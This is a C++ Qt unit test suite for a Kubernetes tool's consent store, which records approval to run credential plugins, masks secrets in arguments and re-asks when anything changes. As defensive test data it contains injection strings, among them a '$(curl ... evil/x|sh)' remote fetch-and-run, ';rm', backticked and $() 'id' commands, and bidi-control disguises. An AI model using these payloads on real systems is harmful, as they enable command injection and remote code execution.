// SPDX-License-Identifier: GPL-3.0-or-later
#include "kube/Consent.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QLockFile>
#include <QTemporaryDir>
#include <QTest>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace Qt::StringLiterals;
using namespace cairn;
using namespace cairn::kube;

class TestConsent : public QObject
{
    Q_OBJECT

    std::unique_ptr<QTemporaryDir> m_dir;
    ConsentRequest m_request;

    QString path(const QString &name) const { return m_dir->path() + u'/' + name; }
    void write(const QString &name, const QByteArray &bytes) const
    {
        QFile file(path(name));
        QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate) && file.write(bytes) == bytes.size());
    }
    QByteArray read(const QString &name) const
    {
        QFile file(path(name));
        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
    }

private slots:
    void init()
    {
        m_dir = std::make_unique<QTemporaryDir>();
        write(u"kubeconfig"_s, "x");
        write(u"plugin"_s, "#!/bin/sh\n");
        m_request = {};
        m_request.kubeconfigFile = path(u"kubeconfig"_s);
        m_request.context = u"prod"_s;
        m_request.program = path(u"plugin"_s);
        m_request.args = QStringList{u"get-token"_s, u"--secret"_s, u"hidden-word"_s};
        m_request.env = {{u"PROFILE"_s, Secret("hidden-value")}};
    }

    void consentSurvivesAndCanBeRevoked()
    {
        ConsentStore store(path(u"sub/consent.json"_s));
        QVERIFY(!store.isAllowed(m_request));
        QVERIFY(store.allow(m_request));
        QVERIFY(store.allow(m_request)); // once more changes nothing
        const ConsentStore other(path(u"sub/consent.json"_s));
        QVERIFY(other.isAllowed(m_request));
        const auto list = other.list();
        QCOMPARE(list.size(), 1);
        QCOMPARE(list[0].program, u"plugin"_s);
        QCOMPARE(list[0].context, u"prod"_s);
        QVERIFY(list[0].allowedAt.isValid());
        QVERIFY(store.revoke(list[0].digest));
        QVERIFY(!other.isAllowed(m_request));
    }

    void anyChangeAsksAgain_data()
    {
        QTest::addColumn<int>("change");
        const char *names[] = {"argument", "argument split", "argument order", "variable", "variable name", "no variable",
                               "kubeconfig", "program", "content", "content with old time and size"};
        for (int i = 0; i < 10; ++i)
            QTest::newRow(names[i]) << i;
    }
    void anyChangeAsksAgain()
    {
        QFETCH(int, change);
        ConsentStore store(path(u"consent.json"_s));
        QVERIFY(store.allow(m_request));
        ConsentRequest changed = m_request;
        switch (change) {
        case 0: changed.args[2] = u"other"_s; break;
        case 1: changed.args = QStringList{u"get-token--secret"_s, u"hidden-word"_s}; break;
        case 2: changed.args.swapItemsAt(0, 1); break;
        case 3: changed.env[0].second = Secret("other"); break;
        case 4: changed.env[0].first = u"LD_PRELOAD"_s; break;
        case 5: changed.env.clear(); break;
        case 6:
            write(u"kubeconfig2"_s, "x");
            changed.kubeconfigFile = path(u"kubeconfig2"_s);
            break;
        case 7:
            QVERIFY(QFile::copy(path(u"plugin"_s), path(u"plugin2"_s)));
            changed.program = path(u"plugin2"_s);
            break;
        case 8: write(u"plugin"_s, "#!/bin/sh\nevil\n"); break;
        case 9: {
            struct stat info {};
            QCOMPARE(::stat(QFile::encodeName(m_request.program).constData(), &info), 0);
            write(u"plugin"_s, "#!/bin/ed\n");
            const timespec times[] = {info.st_atim, info.st_mtim};
            QCOMPARE(::utimensat(AT_FDCWD, QFile::encodeName(m_request.program).constData(), times, 0), 0);
            break;
        }
        }
        QVERIFY(!store.isAllowed(changed));
    }

    void theContextAloneDoesNotAskAgain()
    {
        ConsentStore store(path(u"consent.json"_s));
        QVERIFY(store.allow(m_request));
        m_request.context = u"other"_s;
        QVERIFY(store.isAllowed(m_request));
    }

    void sameKubeconfigThroughALink()
    {
        ConsentStore store(path(u"consent.json"_s));
        QVERIFY(store.allow(m_request));
        QVERIFY(QFile::link(path(u"kubeconfig"_s), path(u"link"_s)));
        m_request.kubeconfigFile = path(u"link"_s);
        QVERIFY(store.isAllowed(m_request));
    }

    void noSecretReachesTheDisk()
    {
        ConsentStore store(path(u"sub/consent.json"_s));
        QVERIFY(store.allow(m_request));
        const QByteArray bytes = read(u"sub/consent.json"_s);
        QVERIFY(!bytes.contains("hidden"));
        QVERIFY(!bytes.contains("get-token"));
        struct stat info {};
        QCOMPARE(::stat(QFile::encodeName(path(u"sub/consent.json"_s)).constData(), &info), 0);
        QCOMPARE(int(info.st_mode & 0777), 0600);
        const QDir folder(path(u"sub"_s));
        QCOMPARE(folder.entryList(QDir::Files | QDir::Hidden), QStringList{u"consent.json"_s});
    }

    void aFileOthersCanWriteIsNoConsent()
    {
        ConsentStore store(path(u"consent.json"_s));
        QVERIFY(store.allow(m_request));
        QCOMPARE(::chmod(QFile::encodeName(path(u"consent.json"_s)).constData(), 0620), 0);
        QVERIFY(!store.isAllowed(m_request));
    }

    void damagedFilesAreNoConsent()
    {
        ConsentStore store(path(u"consent.json"_s));
        for (const QByteArray &bytes : {""_ba, "junk"_ba, "[]"_ba, R"({"consents": [1, {"digest": 5}, {"digest": "short"}]})"_ba,
                                        R"({"consents": {}})"_ba}) {
            write(u"consent.json"_s, bytes);
            QVERIFY(store.list().isEmpty());
            QVERIFY(!store.isAllowed(m_request));
        }
        QVERIFY(store.allow(m_request));
        QVERIFY(store.isAllowed(m_request));
    }

    void unwritablePlacesAreExplained()
    {
        write(u"file"_s, "x");
        ConsentStore store(path(u"file/consent.json"_s));
        const auto done = store.allow(m_request);
        QVERIFY(!done);
        QCOMPARE(done.error().kind, Error::Kind::Io);
        QVERIFY(!done.error().fix.isEmpty());
    }

    void defaultFileFollowsXdg()
    {
        qputenv("XDG_CONFIG_HOME", "/x/y");
        QCOMPARE(ConsentStore::defaultFile(), u"/x/y/cairn/exec-consent.json"_s);
        qputenv("XDG_CONFIG_HOME", "relative");
        QCOMPARE(ConsentStore::defaultFile(), QDir::homePath() + u"/.config/cairn/exec-consent.json"_s);
        qunsetenv("XDG_CONFIG_HOME");
    }

    void argumentsAreMasked_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QStringList>("shown");
        const auto row = [](const char *name, const QStringList &args, const QStringList &shown) {
            QTest::newRow(name) << args << shown;
        };
        row("plain", {u"eks"_s, u"get-token"_s, u"--cluster-name"_s, u"prod"_s}, {u"eks"_s, u"get-token"_s, u"--cluster-name"_s, u"prod"_s});
        row("flag and value", {u"--token"_s, u"abc"_s, u"x"_s}, {u"--token"_s, u"•••"_s, u"x"_s});
        row("assignment", {u"--oidc-client-secret=abc"_s}, {u"--oidc-client-secret=•••"_s});
        row("short dash", {u"-password=abc"_s}, {u"-password=•••"_s});
        row("variable", {u"API_TOKEN=abc"_s}, {u"API_TOKEN=•••"_s});
        row("a file may be shown", {u"--token-file"_s, u"/a"_s, u"--token-cache-dir=/b"_s}, {u"--token-file"_s, u"/a"_s, u"--token-cache-dir=/b"_s});
        row("switch before a flag", {u"--credential"_s, u"--verbose"_s}, {u"--credential"_s, u"--verbose"_s});
        row("web token", {u"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"_s}, {u"•••"_s});
        row("in a script", {u"-c"_s, u"curl -H 'Authorization: Bearer abcdef123' https://u:pw@h/"_s},
            {u"-c"_s, u"curl -H 'Authorization: Bearer •••' https://•••@h/"_s});
        row("ids", {u"--client-id"_s, u"abc"_s, u"--region=eu"_s}, {u"--client-id"_s, u"abc"_s, u"--region=eu"_s});
    }
    void argumentsAreMasked()
    {
        QFETCH(QStringList, args);
        QFETCH(QStringList, shown);
        QCOMPARE(maskedArguments(args), shown);
    }

    void nothingThatRunsIsHidden_data()
    {
        QTest::addColumn<QString>("program");
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("visible");
        const auto row = [](const char *name, const QString &program, const QStringList &args, const QString &visible) {
            QTest::newRow(name) << program << args << visible;
        };
        const QString evil = u"$(curl${IFS}-s${IFS}evil/x|sh)"_s;
        row("a script called token", u"/bin/sh"_s, {u"-c"_s, u"token="_s + evil}, evil);
        row("of a link to a shell", u"%2"_s, {u"-c"_s, u"token="_s + evil}, evil);
        row("after a flag that is called secret", u"/usr/bin/plugin"_s, {u"--client-secret"_s, evil}, evil);
        row("in a flag that is called secret", u"/usr/bin/plugin"_s, {u"--client-secret="_s + evil}, evil);
        row("in an address", u"/usr/bin/plugin"_s, {u"https://"_s + evil + u"@h/"_s}, evil);
        row("with semicolons", u"/usr/bin/plugin"_s, {u"PASSWORD=a;rm"_s}, u"a;rm"_s);
        row("with backticks", u"/usr/bin/plugin"_s, {u"--token"_s, u"`id`"_s}, u"`id`"_s);
        row("an interpreter's code", u"/usr/bin/python3.11"_s, {u"-c"_s, u"secret=open"_s}, u"secret=open"_s);
        row("a bare word of an interpreter", u"/usr/bin/perl"_s, {u"--token"_s, u"run"_s}, u"run"_s);
        row("behind env", u"/usr/bin/env"_s, {u"API_KEY=x"_s, u"thing"_s}, u"API_KEY=x"_s);
        row("a shell among the arguments", u"/opt/wrap"_s, {u"bash"_s, u"--token"_s, u"run"_s}, u"run"_s);
    }
    void nothingThatRunsIsHidden()
    {
        QFETCH(QString, program);
        QFETCH(QStringList, args);
        QFETCH(QString, visible);
        QVERIFY(QFile::link(u"/bin/sh"_s, path(u"aws"_s)));
        m_request.program = program.replace(u"%2"_s, path(u"aws"_s));
        m_request.args = args;
        const ShownRequest shown = m_request.shown();
        QVERIFY2(shown.command.contains(visible), qPrintable(shown.command));
        QVERIFY2(!shown.command.contains(u"•••"_s), qPrintable(shown.command));
        QVERIFY(!shown.masked);
        QVERIFY2(m_request.commandLine().contains(visible), "the doctor shows less");
    }
    void whatIsMaskedCanBeShown()
    {
        m_request.args = QStringList{u"--client-secret"_s, u"abc/DEF+1="_s, u"--token=xyz"_s, u"https://u:pw@h/"_s,
                                     u"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"_s, u"--token-file"_s, u"/a"_s};
        m_request.env = {{u"API_TOKEN"_s, Secret("t0k")}, {u"LD_PRELOAD"_s, Secret("/tmp/x.so")}, {u"X_SECRET"_s, Secret("$(id)")}};
        const ShownRequest shown = m_request.shown();
        QVERIFY(shown.masked);
        QVERIFY(!shown.interpreter);
        for (const QString &secret : {u"abc/DEF"_s, u"xyz"_s, u"u:pw"_s, u"eyJ"_s, u"t0k"_s})
            QVERIFY2(!(shown.command + shown.environment.join(u' ')).contains(secret), qPrintable(secret));
        QVERIFY(shown.command.contains(u"--token-file /a"_s));
        QCOMPARE(shown.environment, (QStringList{u"API_TOKEN=•••"_s, u"LD_PRELOAD=/tmp/x.so"_s, u"\"X_SECRET=$(id)\""_s}));
        const ShownRequest whole = m_request.shown(true);
        for (const QString &secret : {u"abc/DEF+1="_s, u"--token=xyz"_s, u"u:pw@h"_s, u"eyJhbGciOiJIUzI1NiJ9"_s, u"API_TOKEN=t0k"_s})
            QVERIFY2((whole.command + whole.environment.join(u' ')).contains(secret), qPrintable(secret));
        QVERIFY(!whole.masked);
    }
    void nothingIsDisguised()
    {
        m_request.program = u"/bin/sh"_s;
        m_request.args = QStringList{u"-c"_s, u"a\u202Eb\nAllowed: yes"_s, u"x\" --harmless \"y"_s};
        m_request.env = {{u"A\u2066"_s, Secret("b\nc")}};
        const ShownRequest shown = m_request.shown();
        for (const QString &text : {shown.command, shown.environment.first()}) {
            for (const QChar c : text)
                QVERIFY2(c.isPrint(), qPrintable(text));
        }
        QVERIFY2(shown.command.endsWith(u" \"x\\\" --harmless \\\"y\""_s), qPrintable(shown.command)); // one word
    }

    void namedFilesAskAgain_data()
    {
        QTest::addColumn<QString>("program");
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<bool>("asksAgain");
        const auto row = [](const char *name, const QString &program, const QStringList &args, bool asksAgain) {
            QTest::newRow(name) << program << args << asksAgain;
        };
        const QString shell = u"/bin/sh"_s;
        row("script of an interpreter", shell, {u"%1"_s}, true);
        row("in a script", shell, {u"-c"_s, u"set -e; '%1' --x | tail"_s}, true);
        row("sourced", shell, {u"-c"_s, u". %1"_s}, true);
        row("read by a script", shell, {u"-c"_s, u"cat <%1"_s}, true);
        row("written by a script", shell, {u"-c"_s, u"date >>%1"_s}, false);
        row("by a flag", u"/usr/bin/python3"_s, {u"--rc=%1"_s}, true);
        row("plugin's data", u"%2"_s, {u"--cache-file"_s, u"%1"_s}, false);
        row("plugin's script", u"%2"_s, {u"--hook=%1.py"_s}, true);
        row("not named", shell, {u"-c"_s, u"true"_s}, false);
    }
    void namedFilesAskAgain()
    {
        QFETCH(QString, program);
        QFETCH(QStringList, args);
        QFETCH(bool, asksAgain);
        write(u"named"_s, "one");
        write(u"named.py"_s, "one");
        m_request.program = program.replace(u"%2"_s, path(u"plugin"_s));
        m_request.args = args.replaceInStrings(u"%1"_s, path(u"named"_s));
        ConsentStore store(path(u"consent.json"_s));
        QVERIFY(store.allow(m_request));
        QVERIFY(store.isAllowed(m_request));
        write(u"named"_s, "two");
        write(u"named.py"_s, "two");
        QCOMPARE(store.isAllowed(m_request), !asksAgain);
        const QStringList shown = m_request.shown().files;
        QCOMPARE(shown.filter(path(u"named"_s)).isEmpty(), !asksAgain); // and the question names it
    }
    void aFileThatIsMadeLaterAsksAgain()
    {
        m_request.program = u"/bin/sh"_s;
        m_request.args = QStringList{path(u"later"_s)};
        ConsentStore store(path(u"consent.json"_s));
        QVERIFY(store.allow(m_request));
        QVERIFY(store.isAllowed(m_request));
        write(u"later"_s, "echo evil");
        QVERIFY(!store.isAllowed(m_request));
    }
    void filesOfTheEnvironmentAskAgain()
    {
        write(u"hook.so"_s, "one");
        m_request.env = {{u"LD_PRELOAD"_s, Secret("libc.so:" + path(u"hook.so"_s).toUtf8())}};
        ConsentStore store(path(u"consent.json"_s));
        QVERIFY(store.allow(m_request));
        QVERIFY(store.isAllowed(m_request));
        write(u"hook.so"_s, "two");
        QVERIFY(!store.isAllowed(m_request));
    }
    void pathsWithBlanksAndPipesAreLookedAt()
    {
        write(u"my script.sh"_s, "one");
        QCOMPARE(::mkfifo(QFile::encodeName(path(u"pipe.sh"_s)).constData(), 0600), 0);
        m_request.args = QStringList{path(u"my script.sh"_s), path(u"pipe.sh"_s)}; // the pipe must not be opened
        QCOMPARE(m_request.shown().files, QStringList{path(u"my script.sh"_s)});
    }
    void moreThanCanBeWatchedIsNeverAgreedTo()
    {
        m_request.program = u"/bin/sh"_s;
        m_request.args = QStringList{u"-c"_s, u"x "_s.repeated(5'000)};
        ConsentStore store(path(u"consent.json"_s));
        QVERIFY(store.allow(m_request));
        QVERIFY(!store.isAllowed(m_request));
    }
    void whatChangedWhileTheQuestionWasOpenIsNotAgreedTo()
    {
        ConsentStore store(path(u"consent.json"_s));
        const QByteArray seen = m_request.digest();
        write(u"plugin"_s, "#!/bin/sh\nevil\n");
        const auto done = store.allow(m_request, seen);
        QVERIFY(!done);
        QCOMPARE(done.error().kind, Error::Kind::Conflict);
        QVERIFY(store.list().isEmpty());
        QVERIFY(store.allow(m_request, m_request.digest()));
    }
    void aLockThatAnotherHoldsIsNotSteppedOver()
    {
        ConsentStore store(path(u"consent.json"_s));
        QVERIFY(store.allow(m_request));
        QLockFile other(path(u"consent.json.lock"_s));
        QVERIFY(other.tryLock(0));
        ConsentRequest second = m_request;
        second.args.append(u"x"_s);
        const auto done = store.allow(second);
        QVERIFY(!done);
        QCOMPARE(done.error().kind, Error::Kind::Io);
        QVERIFY(!store.revoke(m_request.digest()));
        QVERIFY(store.isAllowed(m_request)); // nothing was lost
        other.unlock();
        QVERIFY(store.allow(second));
        QCOMPARE(store.list().size(), 2);
    }

    void commandLineIsSafeToShow()
    {
        m_request.program = u"/p\u202Ex"_s;
        m_request.args = QStringList{u"a\nb"_s, u"two words"_s, u""_s};
        QCOMPARE(m_request.commandLine(), u"/p\\u{202E}x a\\nb \"two words\" \"\""_s);
        QCOMPARE(m_request.variableNames(), QStringList{u"PROFILE"_s});
    }
};

QTEST_APPLESS_MAIN(TestConsent)
#include "tst_consent.moc"
